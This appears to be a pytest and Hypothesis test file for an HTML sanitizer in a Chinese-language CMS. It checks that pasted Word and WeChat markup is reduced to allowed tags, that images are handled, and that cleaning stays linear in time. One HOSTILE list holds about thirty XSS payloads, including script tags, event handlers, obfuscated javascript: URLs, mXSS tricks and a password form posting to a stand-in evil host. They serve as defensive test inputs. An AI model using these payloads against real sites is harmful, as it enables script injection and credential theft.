"""Cleaning: whatever is pasted becomes headings, paragraphs, lists, tables, figures, and nothing else."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from portal.cms.richtext.clean import Cleaned, clean
from portal.cms.richtext.config import ALLOWED
from portal.cms.richtext.scan import scan

WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><title>文档</title>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style>p.MsoNormal{mso-style-parent:"";font-family:宋体}</style></head><body lang=ZH-CN>
<!--StartFragment--><h1 style='mso-pagination:lines-together'>用工通知<o:p></o:p></h1>
<p class=MsoNormal style='text-indent:24.0pt;mso-char-indent-count:2.0'>　　<b><span
style='font-family:宋体;mso-bidi-font-weight:bold'>劳务派遣</span></b><span lang=EN-US>2026<o:p></o:p></span></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<![if !supportLists]><table class=MsoTableGrid border=1 style='border-collapse:collapse'>
<tr style='mso-yfti-irow:0'><td width=200 valign=top style='width:150pt'><p class=MsoNormal>项目</p></td>
<td colspan=2><p class=MsoNormal>金额</p></td></tr></table><![endif]>
<p class=MsoNormal><img width=100 src="file:///C:/Users/x/image001.png" v:shapes="x"><font color=red>红字</font></p>
<!--EndFragment--></body></html>"""

WECHAT = """<div id="js_content" style="visibility: hidden; opacity: 0;"><section data-tools="135编辑器"
style="margin:0"><section style="text-align:center"><section><span style="color:rgb(255,0,0)">第一段\u200b</span>
</section></section></section><section><img data-src="https://mmbiz.qpic.cn/x/640" src="data:image/gif;base64,R0lG"
class="rich_pages"></section><p style="x"><strong style="y">粗体</strong>&nbsp;<br></p><p><br></p>
<mp-common-profile data-id="MzA"></mp-common-profile><qqmusic></qqmusic>
<iframe class="video_iframe" data-src="https://v.qq.com/x">看视频</iframe><section>第二段</section></div>"""


class Inspector(HTMLParser):
    """Collects the tags and attributes of HTML that should be clean, and sees that it is balanced."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: set[tuple[str, str]] = set()
        self.addresses: set[str] = set()
        self.stack: list[str] = []
        self.feed(html)
        self.close()
        assert not self.stack

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {(tag, "")} | {(tag, name) for name, _ in attrs}
        self.addresses |= {f"{value}" for name, value in attrs if name in {"href", "src"}}
        if tag not in {"br", "hr", "img"}:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.stack.pop() == tag


ALLOWED_HERE = {(tag, "") for tag in ALLOWED["tags"]} | {
    (tag, name) for tag, names in ALLOWED["attributes"].items() for name in names
}


def assert_clean(cleaned: str) -> None:
    inspector = Inspector(cleaned)
    assert inspector.found <= ALLOWED_HERE
    for address in inspector.addresses:
        scheme, colon, _ = address.partition(":")
        relative = not colon or not scheme.isascii() or "/" in scheme or not scheme.isalpha()
        assert relative or scheme.lower() in {"http", "https", "mailto", "tel"}, address
    assert clean(str(cleaned)) == cleaned


# --- Shape -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("劳务派遣", "<p>劳务派遣</p>"),
        ("<p>一</p><p>二</p>", "<p>一</p><p>二</p>"),
        ("<div>一</div><div>二<section>三</section>四</div>", "<p>一</p><p>二</p><p>三</p><p>四</p>"),
        ("一<br>二<br><br>三", "<p>一<br>二</p><p>三</p>"),
        ("<p>　　缩进&nbsp;</p>", "<p>缩进</p>"),
        ("<p>a  \n b</p>", "<p>a b</p>"),
        ("<pre>一\n二</pre>", "<p>一<br>二</p>"),
        ("<h1>一</h1><h2>二</h2><h4>四</h4><h6>六</h6>", "<h2>一</h2><h2>二</h2><h4>四</h4><h4>六</h4>"),
        ("<h2>标题</h2>正文", "<h2>标题</h2><p>正文</p>"),
        (
            "<b>粗<i>斜</i></b><u>线</u><del>删</del>",
            "<p><strong>粗<em>斜</em></strong><u>线</u><s>删</s></p>",
        ),
        ("<b>一<i>二</b>三</i>", "<p><strong>一<em>二</em></strong><em>三</em></p>"),
        ("<b><p>一</p><p>二</p></b>", "<p><strong>一</strong></p><p><strong>二</strong></p>"),
        ("<ul><li>一<li>二</ul>", "<ul><li>一</li><li>二</li></ul>"),
        ("<li>一<li>二", "<ul><li>一</li><li>二</li></ul>"),
        ("<ul>散<li>一</ul>", "<ul><li>散</li><li>一</li></ul>"),
        (
            "<ul><li>一</li><ul><li>二</li></ul></ul>",
            "<ul><li><p>一</p><ul><li>二</li></ul></li></ul>",
        ),
        ("<ol start=3 type=a><li>一</ol>", '<ol start="3" type="a"><li>一</li></ol>'),
        ('<ol start="1" type="1" data-type="decimal"><li>一</ol>', "<ol><li>一</li></ol>"),
        ("<blockquote>引<div>文</div></blockquote>", "<blockquote><p>引</p><p>文</p></blockquote>"),
        ("一<hr>二", "<p>一</p><hr><p>二</p>"),
        (
            "<table><thead><tr><th>甲</th></tr></thead><tr><td colspan=2 style=x>乙<td>",
            "<table><tbody><tr><th>甲</th></tr>"
            '<tr><td colspan="2">乙</td><td></td></tr></tbody></table>',
        ),
        ("<td>散</td>", "<p>散</p>"),
        ("<table>散<caption>题</caption></table>", "<table><tbody><tr><td><p>散</p><p>题</p></td></tr></tbody></table>"),
        ("<a href='https://www.sz.gov.cn/' class=x>政府</a>", '<p><a href="https://www.sz.gov.cn/">政府</a></p>'),
        ("<a href='www.sz.gov.cn'>政府</a>", '<p><a href="https://www.sz.gov.cn">政府</a></p>'),
        ("<a href='//sz.gov.cn/x'>政府</a>", '<p><a href="https://sz.gov.cn/x">政府</a></p>'),
        ("<a href='tel:+8675588828155'>热线</a>", '<p><a href="tel:+8675588828155">热线</a></p>'),
        ("<a href='/services/' title='服 务'>服务</a>", '<p><a href="/services/" title="服 务">服务</a></p>'),
        ("a &lt;b&gt; &amp; c", "<p>a &lt;b&gt; &amp; c</p>"),
        ("5 < 6 > 4", "<p>5 &lt; 6 &gt; 4</p>"),
    ],
)  # fmt: skip
def test_what_is_pasted_takes_our_shape(given: str, kept: str) -> None:
    cleaned = clean(given)

    assert cleaned == kept
    assert_clean(cleaned)


@pytest.mark.parametrize(
    "nothing",
    ["", "<p></p>", "<p>&nbsp;</p><p><br></p>", " \n ", "<div><span></span></div>", "<ul><li></li></ul>",
     "<h2> </h2>", "<table></table>", "<blockquote><p></p></blockquote>", "<p>\u200b\ufeff</p>", "\x00"],
)  # fmt: skip
def test_a_text_that_says_nothing_is_empty(nothing: str) -> None:
    assert clean(nothing) == ""


def test_word_comes_out_as_heading_paragraph_and_table() -> None:
    cleaned = clean(WORD)

    assert cleaned == (
        "<h2>用工通知</h2><p><strong>劳务派遣</strong>2026</p>"
        '<table><tbody><tr><td><p>项目</p></td><td colspan="2"><p>金额</p></td></tr></tbody></table>'
        "<p>红字</p>"
    )
    assert_clean(cleaned)


def test_wechat_comes_out_as_paragraphs() -> None:
    cleaned = clean(WECHAT)

    assert cleaned == "<p>第一段</p><p><strong>粗体</strong></p><p>第二段</p>"
    assert_clean(cleaned)


# --- Pictures --------------------------------------------------------------------------------------


def test_a_picture_of_the_library_stands_on_a_line_of_its_own() -> None:
    cleaned = clean("<p>前<img data-file='7' src='/media/a.jpg' alt='厂 门\n口' style=x>后</p>")

    assert cleaned == (
        '<p>前</p><figure><img data-file="7" src="/media/a.jpg" alt="厂 门 口"></figure><p>后</p>'
    )
    assert cleaned.files == {7}
    assert_clean(cleaned)


def test_a_caption_is_plain_and_stays_with_its_picture() -> None:
    cleaned = clean(
        "<figure class=x><img data-file=7><figcaption><p>图一 <b>厂门</b></p>口</figcaption></figure>正文"
    )

    assert cleaned == (
        '<figure><img data-file="7" alt=""><figcaption>图一 厂门口</figcaption></figure><p>正文</p>'
    )
    assert_clean(cleaned)


@pytest.mark.parametrize(
    "img",
    ["<img src='https://mmbiz.qpic.cn/x'>", "<img src='data:image/png;base64,xx'>", "<img>",
     "<img data-file='-1'>", "<img data-file='0'>", "<img data-file='x'>", "<img data-file='1.5'>",
     "<img data-file='٣'>", f"<img data-file='{'9' * 5000}'>", "<img src=x onerror=alert(1)>"],
)  # fmt: skip
def test_a_picture_from_elsewhere_leaves_its_caption(img: str) -> None:
    cleaned = clean(f"<p>前</p><figure>{img}<figcaption>说明</figcaption></figure><p>后</p>")

    assert cleaned == "<p>前</p><p>说明</p><p>后</p>"
    assert not cleaned.files


def test_pictures_in_tables_and_lists_stay_there() -> None:
    cleaned = clean(
        "<table><tr><td>甲<img data-file=1></td></tr></table><ul><li><img data-file=2></li></ul>"
    )

    assert cleaned.files == {1, 2}
    assert '<td><p>甲</p><figure><img data-file="1" alt=""></figure></td>' in cleaned
    assert_clean(cleaned)


def test_what_the_library_says_goes_into_the_text() -> None:
    asked: list[set[int]] = []

    def library(ids: set[int]) -> dict[int, dict[str, object]]:
        asked.append(set(ids))
        return {1: {"src": "/media/new.jpg", "width": 8, "height": 6}}

    html = (
        "<figure><img data-file=1 src=old.jpg width=1></figure>"
        "<figure><img data-file=2 src=gone.jpg><figcaption>没有了</figcaption></figure>"
    )
    cleaned = clean(html, library)  # type: ignore[arg-type]

    assert cleaned == (
        '<figure><img data-file="1" src="/media/new.jpg" width="8" height="6" alt=""></figure>'
        "<p>没有了</p>"
    )
    assert asked == [{1, 2}]
    assert cleaned.files == {1}


def test_the_library_is_not_asked_for_a_text_without_pictures() -> None:
    def library(ids: object) -> dict[int, dict[str, object]]:
        raise AssertionError(ids)

    assert clean("<p>正文</p>", library) == "<p>正文</p>"


# --- Hostile ---------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script><p>正文</p>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>正文",
    "<scr<script>ipt>alert(1)</scr</script>ipt>正文",
    "<style>p{background:url(javascript:alert(1))}</style>正文",
    "<p style='background:url(//evil)' class=x id=y onclick=alert(1)>正文</p>",
    "<img src=x onerror=alert(1)>正文",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>正文",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>正文",
    "<a href='javascript:alert(1)'>正文</a>",
    "<a href=' java\nscript&colon;alert(1)'>正文</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>正文</a>",
    "<a href='\x01javascript:alert(1)'>正文</a>",
    "<a href='vbscript:x'>正</a><a href='data:text/html,<script>'>文</a>",
    "<a href='file:///etc/passwd'>正文</a>",
    "<a href='http://['>正文</a><a href='https://a]b'>x</a>",
    "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>正文",
    "<form action=//evil><input name=password><button>正文</button></form>",
    "<base href=//evil><meta http-equiv=refresh content=0><link rel=stylesheet href=x>正文",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>正文",
    "<!--><img src=x onerror=alert(1)>-->正文",
    "<p title='\"><script>alert(1)</script>'>正文",
    "<a title='\"onmouseover=alert(1)' href=/x>正文</a>",
    "<img data-file=1 alt='\"onerror=alert(1) x=\"'>正文",
    "<img data-file=1 src='javascript:alert(1)'>正文",
    "<template><script>alert(1)</script></template>正文",
    "<textarea><script>alert(1)</script></textarea>正文",
    "<p>正文<plaintext><script>alert(1)</script>",
    "<table><td background=javascript:alert(1)>正文</table>",
    "\ud800<p>正文\udfff</p>",
    "<p>正文</p>&#" + "9" * 5000 + ";&#x" + "f" * 5000 + ";",
    "<p>正文" + "<b" * 50,
    "正文<a href='",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_passes_and_the_words_stay(hostile: str) -> None:
    cleaned = clean(hostile)

    assert_clean(cleaned)
    assert "正" in cleaned
    assert not {"script", "style", "svg", "iframe"} & {tag for tag, _ in Inspector(cleaned).found}
    for found in ("javascript:", "onerror=alert", "onclick"):
        assert found not in cleaned.replace("&quot;", "") or f"&quot;{found[:2]}" in cleaned


TAGS = [
    "p", "div", "section", "span", "b", "i", "u", "s", "a", "h1", "h3", "h6", "ul", "ol", "li", "table", "thead",
    "tbody", "tr", "td", "th", "caption", "blockquote", "pre", "hr", "br", "img", "figure", "figcaption", "font",
    "o:p", "script", "style", "svg", "textarea", "iframe", "form", "x-y", "dl", "dt", "center",
]  # fmt: skip
ATTRIBUTES = ["", " href='https://x.cn/a?b=1&c=2'", " href=javascript:x", " href='a b'", " style=x", " class='y'",
              " data-file=3", " data-file='x' src=//y", " src=z alt='<\"&'", " colspan=2", " rowspan='0'",
              " start=4 type=i", " title='t&quot;'", " onclick=x", " '", ' "', " ="]  # fmt: skip
PIECES = st.one_of(
    st.builds("<{}{}>".format, st.sampled_from(TAGS), st.sampled_from(ATTRIBUTES)),
    st.builds("</{}>".format, st.sampled_from(TAGS)),
    st.text(max_size=8),
    st.sampled_from(
        ["劳务", " ", "\n", "　", "&nbsp;", "&lt;", "&#8203;", "<", ">", "<!--", "-->", "<![if", "]>", "\x85", "\x0c", "\r"]
    ),
)  # fmt: skip
HTML = st.lists(PIECES, max_size=30).map("".join)


@given(HTML)
@example("<b> </b>x<i> y</i>")
@example("<ul><ul><ul><li>x</ul></ul></ul>")
@example("<li>" * 40 + "x")
@example("<table><tr><td>" * 12 + "x" + "<li>y")
@example("<blockquote>" * 40 + "<ul><li>x")
def test_cleaning_twice_is_cleaning_once_and_only_allowed_tags_remain(html: str) -> None:
    assert_clean(clean(html))


@given(st.text())
def test_any_text_at_all_is_cleaned(text: str) -> None:
    assert_clean(clean(text))


@given(HTML)
def test_what_was_cleaned_is_known_to_be_clean(html: str) -> None:
    cleaned = clean(html)

    assert isinstance(cleaned, Cleaned)
    assert clean(cleaned) is cleaned
    assert type(cleaned + "x") is str, "what is made of it is not"


# --- Cost ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "unit",
    ["<p>劳务派遣<strong>用工</strong></p>", "<div>", "<b>", "<ul><li>", "<table><tr><td>", "<blockquote>",
     "<!--", "<a ", "<![", "<?", "<a x='", "<svg>", "&#9", "<a href=x>y", "<b> </b><i> </i>", "x<br>",
     "<figure><img data-file=1><figcaption>x", "</p>", "<p"],
)  # fmt: skip
def test_the_cost_grows_with_the_length_and_no_faster(unit: str) -> None:
    def seconds(length: int) -> float:
        html = unit * (length // len(unit.encode()))
        began = time.process_time()
        clean(html)
        return time.process_time() - began

    small = min(seconds(50_000) for _ in range(2))
    # Eight times the text: a quadratic step would take 64 times as long.
    assert seconds(400_000) < 24 * small + 0.5


def test_scanning_resolves_references_once() -> None:
    assert [token.value for token in scan("&amp;lt;")] == ["&lt;"]
